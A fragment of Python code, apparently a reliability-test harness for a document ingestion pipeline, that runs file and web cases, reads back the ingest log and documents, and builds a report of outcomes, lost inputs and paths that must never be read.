        urls = [e.ref for c in cases_web[1:] for e in c.inputs]
        attempt("web", lambda: ingest_inputs(build, iter_web(urls, settings=hostile_fetch_settings()), run_ids["web"]))
        requests = Counter(server.requests)

    log: dict[str, list[tuple]] = {}
    docs: dict[str, tuple] = {}
    if build.exists():
        con = connect(build)
        try:
            for uri, outcome, reason, document_id, encoding in con.execute(
                "select source_uri, outcome, reason, document_id, detected_encoding from raw.ingest_log"
                " where list_contains(?, run_id) order by logged_at",
                [list(run_ids.values())],
            ).fetchall():
                log.setdefault(uri, []).append((outcome, reason, document_id, encoding))
            docs = {row[0]: (row[1], row[2]) for row in con.execute("select document_id, clean_text, url from raw.documents").fetchall()}
        finally:
            con.close()

    results: list[CaseResult] = []
    expected_uris: set[str] = set()
    forbidden: list[str] = []
    for case in file_cases + cases_web:
        for exp in case.inputs:
            uri = file_uri(exp.ref) if case.source == "file" else exp.ref
            ref = repr(exp.ref)[1:-1] if case.source == "file" else exp.ref.replace(server.base_url, "")
            expected_uris.add(uri)
            results.append(_check(case, exp, log.get(uri, []), docs, requests, ref, uri))
        forbidden += [file_uri(rel) for rel in case.never_logged]
    unexpected = [uri for uri in log if uri not in expected_uris and uri not in forbidden]
    unexpected += [f"must never be read: {uri}" for uri in forbidden if uri in log]
    outcomes = Counter(row[0] for rows in log.values() for row in rows)
    rejected_with_reason = sum(1 for rows in log.values() for row in rows if row[0] == "rejected" and (row[1] or "").strip())
    lost = sum(1 for r in results if r.actual == "lost") + (outcomes["rejected"] - rejected_with_reason)
    kinds_by_source = Counter(case.source for case in file_cases + cases_web)
    return ReliabilityReport(
        run_id=run_id,
        results=results,
        kinds=len(file_cases) + len(cases_web),
        kinds_by_source=dict(kinds_by_source),
        inputs=len(expected_uris) + len([u for u in log if u not in expected_uris]),
        outcomes=outcomes,
        rejected_with_reason=rejected_with_reason,
        lost=lost,
        unexpected=unexpected,
        crashes=crashes,
        seconds=time.monotonic() - started,
    )
